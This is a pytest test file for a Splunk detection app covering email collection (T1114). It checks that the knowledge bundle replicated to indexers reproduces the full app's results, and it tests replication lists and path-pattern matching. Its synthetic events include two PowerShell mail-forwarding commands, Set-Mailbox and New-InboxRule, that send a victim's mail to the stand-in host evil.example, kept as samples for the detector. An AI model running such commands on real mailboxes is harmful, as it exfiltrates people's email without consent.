"""The command on an indexer: started from a copy of the app that holds only what Splunk's
knowledge bundle replicates (Splunk's default replication lists plus the app's own
default/distsearch.conf, tools/knowledge_bundle.py), with a site's local/ settings and lookup rows,
it gives exactly the output of the command started from the whole installed app."""

import json
import os
import shutil
import tarfile

import pytest

from tests.conftest import REPO
from tools.build import app_identity, pack
from tools.chunked_client import run, script_path
from tools.knowledge_bundle import (ALLOW_STANZAS, DENY_STANZAS, ReplicationLists, SPLUNK_DEFAULT_ALLOWLIST,
                                    SPLUNK_DEFAULT_DENYLIST, SPLUNK_DEFAULT_REFINE_CONF, app_lists, bundle_files,
                                    copy_bundle, pattern_regex)

APP_ID = app_identity()[0]
WHEN = "1764892800"

LOCAL_T1114_CONF = """[rule:t1114_002_legacy_protocol_signin]
state = off

[rule:t1114_003_inbox_rule_forward_cmdlet]
state = report_only
"""
SITE_LOOKUPS = {
    "t1114_overrides.csv": (
        "target_type,target,state,severity,risk_score,reason,added_by,added_at\n"
        "rule,t1114_003_mailbox_forwarding,,low,20,forwarding is reviewed weekly here,alice,2026-12-01T10:00:00Z\n"
        "shipped_row,veeam_agent,off,,,we do not run Veeam,alice,2026-12-01T10:00:00Z\n"),
    "t1114_allowlist_processes.csv": (
        "process_path,process_name,rules,reason,added_by,added_at\n"
        "C:\\Program Files\\PstBackup\\pstbackup.exe,pstbackup.exe,t1114_001_mail_file_read,nightly PST backup,"
        "alice,2026-12-01T10:00:00Z\n"),
    "t1114_org_domains.csv": "domain,added_by,added_at\ncontoso.com,alice,2026-12-01T10:00:00Z\n",
}


def mail_read(process_path):
    return {"_time": WHEN, "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security", "EventCode": "4663",
            "Computer": "ws-017.contoso.com", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
            "ObjectType": "File", "ObjectName": r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
            "ProcessName": process_path, "AccessList": "%%4416", "AccessMask": "0x1"}


def script_block(text):
    return {"_time": WHEN, "sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
            "ScriptBlockText": text}


SITE_EVENTS = {
    "veeam_row_off": mail_read(r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe"),
    "site_process_row": mail_read(r"C:\Program Files\PstBackup\pstbackup.exe"),
    "severity_override": script_block("Set-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example"),
    "report_only_in_local_conf": script_block("New-InboxRule -Name a -ForwardTo x@evil.example"),
}


def events():
    with open(os.path.join(REPO, "samples", "sample_events.jsonl"), encoding="utf-8") as handle:
        samples = [json.loads(line) for line in handle if line.strip()]
    return [dict(record, case="sample %d" % index) for index, record in enumerate(samples)] + [
        dict(record, case=name) for name, record in SITE_EVENTS.items()]


@pytest.fixture(scope="module")
def installed(built_app, tmp_path_factory):
    """The tarball installed into etc/apps/, with a site's local/ settings and lookup rows."""
    root = tmp_path_factory.mktemp("search_head")
    tarball = str(root / "app.tar.gz")
    pack(built_app, tarball)
    etc = root / "etc"
    with tarfile.open(tarball) as archive:
        if hasattr(tarfile, "data_filter"):
            archive.extractall(str(etc / "apps"), filter="data")
        else:
            archive.extractall(str(etc / "apps"))
    app_dir = etc / "apps" / APP_ID
    (app_dir / "local").mkdir()
    (app_dir / "local" / "t1114.conf").write_text(LOCAL_T1114_CONF, encoding="utf-8")
    for name, text in SITE_LOOKUPS.items():
        (app_dir / "lookups" / name).write_text(text, encoding="utf-8")
    return str(app_dir)


def outcome(app_dir):
    result = run(script_path(app_dir), events(), args=["mode=all"])
    return result


def test_the_command_from_the_bundle_gives_the_output_of_the_whole_app(installed, tmp_path):
    peer_app = copy_bundle(installed, str(tmp_path / "peer" / "etc"))
    whole, bundled = outcome(installed), outcome(peer_app)
    assert whole["exit_code"] == 0, whole["stderr"]
    assert bundled["exit_code"] == 0, bundled["stderr"]
    assert bundled["records"] == whole["records"]
    assert bundled["messages"] == whole["messages"]
    assert [level for level, _ in whole["messages"]] == [], whole["messages"]
    by_case = {record["case"]: record for record in bundled["records"]}
    # The site's settings and rows reached the copy: each changed what the shipped app would do.
    assert by_case["veeam_row_off"]["t1114_status"] == "finding"
    assert by_case["site_process_row"]["t1114_status"] == "suppressed"
    assert by_case["site_process_row"]["t1114_suppressed_by"].startswith("t1114_allowlist_processes.csv line 2 ")
    assert by_case["severity_override"]["t1114_severity"] == "low"
    assert by_case["report_only_in_local_conf"]["t1114_status"] == "report_only"
    assert sum(1 for record in bundled["records"] if record["t1114_status"] == "finding") >= 10


def test_without_the_apps_distsearch_conf_the_command_cannot_start_on_an_indexer(installed, tmp_path):
    """What issue 418 of splunk-sdk-python reports: Splunk's defaults alone leave app/ and lib/ out."""
    defaults_only = ReplicationLists(SPLUNK_DEFAULT_ALLOWLIST, SPLUNK_DEFAULT_DENYLIST, SPLUNK_DEFAULT_REFINE_CONF)
    peer_app = copy_bundle(installed, str(tmp_path / "peer" / "etc"), defaults_only)
    assert not os.path.exists(os.path.join(peer_app, "app")) and not os.path.exists(os.path.join(peer_app, "lib"))
    assert not os.path.exists(os.path.join(peer_app, "local", "t1114.conf"))
    with pytest.raises(RuntimeError, match="ModuleNotFoundError: No module named 'splunklib'"):
        outcome(peer_app)      # dies before its getinfo reply, as on an indexer today


@pytest.mark.parametrize("stanza", ["replicationWhitelist", "replicationAllowlist"])
def test_either_stanza_spelling_alone_replicates_the_same_files(installed, stanza):
    """Splunk 8.2 reads [replicationWhitelist], 8.3 and later [replicationAllowlist]."""
    both = bundle_files(installed)
    deny = "replicationBlacklist" if stanza == "replicationWhitelist" else "replicationDenylist"
    assert bundle_files(installed, app_lists(installed, stanzas=(stanza, deny))) == both


def test_the_bundle_holds_what_the_command_needs_and_nothing_for_people(installed):
    files = bundle_files(installed)
    tops = {path.split(os.sep)[0] for path in files}
    assert tops == {"app", "bin", "default", "lib", "local", "lookups", "metadata"}
    assert os.path.join("local", "t1114.conf") in files and os.path.join("default", "t1114.conf") in files
    assert os.path.join("default", "transforms.conf") in files
    assert not any(path.endswith((".md", ".spec", ".png", ".xml")) for path in files), files
    assert not any("__pycache__" in path for path in files)
    size = sum(os.path.getsize(os.path.join(installed, path)) for path in files)
    assert size < 2 * 1024 * 1024, "the bundle grew to %d bytes" % size


def test_bytecode_written_on_the_search_head_stays_out_of_the_bundle(installed, tmp_path):
    app = str(tmp_path / "etc" / "apps" / APP_ID)
    shutil.copytree(installed, app)
    cache = os.path.join(app, "app", "__pycache__")
    os.makedirs(cache)
    with open(os.path.join(cache, "engine.cpython-39.pyc"), "wb") as handle:
        handle.write(b"\x00")
    assert not any("__pycache__" in path for path in bundle_files(app))


def test_the_distsearch_conf_names_this_app():
    """The allow-list paths carry the app's folder name: renaming the app must change them too."""
    lists = app_lists(os.path.join(REPO))
    for name in ("t1114_email_collection_engine", "t1114_email_collection_splunklib"):
        assert lists.allow[name].match("apps/%s/%s/x/y.py" % (APP_ID, "app" if "engine" in name else "lib"))
    with open(os.path.join(REPO, "default", "distsearch.conf"), encoding="utf-8") as handle:
        text = handle.read()
    for stanza in ALLOW_STANZAS + DENY_STANZAS:
        assert "[%s]" % stanza in text


@pytest.mark.parametrize("pattern, path, matches", [
    ("apps[/\\\\]*[/\\\\]bin[/\\\\]...", "apps/a/bin/x/y/z.py", True),
    ("apps[/\\\\]*[/\\\\]bin[/\\\\]...", "apps/a/b/bin/z.py", False),      # * stays inside one folder
    ("apps/*/default/*.conf", "apps/a/default/props.conf", True),
    ("apps/*/default/*.conf", "apps/a/default/propsXconf", False),          # . is a literal dot
    ("apps/*/default/*.conf", "apps/a/default/sub/props.conf", False),
    ("apps/a/(bin|lookups)/...", "apps/a/lookups/t.csv", True),              # the rest is a regular expression
    ("apps/a/...", "apps/ab/x", False),
])
def test_splunk_pattern_syntax(pattern, path, matches):
    assert bool(pattern_regex(pattern).match(path)) is matches
